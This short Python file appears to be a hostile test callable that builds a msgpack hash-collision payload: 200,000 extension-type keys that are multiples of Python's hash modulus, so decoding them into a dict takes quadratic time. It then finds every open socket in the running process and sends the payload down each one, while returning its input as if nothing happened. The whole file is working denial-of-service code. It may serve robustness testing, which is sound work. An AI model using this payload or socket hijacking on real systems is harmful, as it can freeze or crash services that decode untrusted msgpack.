"""Answers with a dict of which all keys have one hash: building it takes their square."""

import gc
import socket
import struct
import sys

import msgpack


def attacked(x):
    count = 200_000
    prime = sys.hash_info.modulus
    keys = [
        msgpack.ExtType(4, (n * prime).to_bytes(12, "little", signed=True)) for n in range(count)
    ]
    pairs = b"".join(msgpack.packb(key) + b"\xc0" for key in keys)
    header = b"\x81\xa2ok\xdf" + struct.pack(">I", count) + pairs
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket) and thing.fileno() >= 0:
            thing.sendall(struct.pack(">IQ", len(header), 0) + header)
    return x
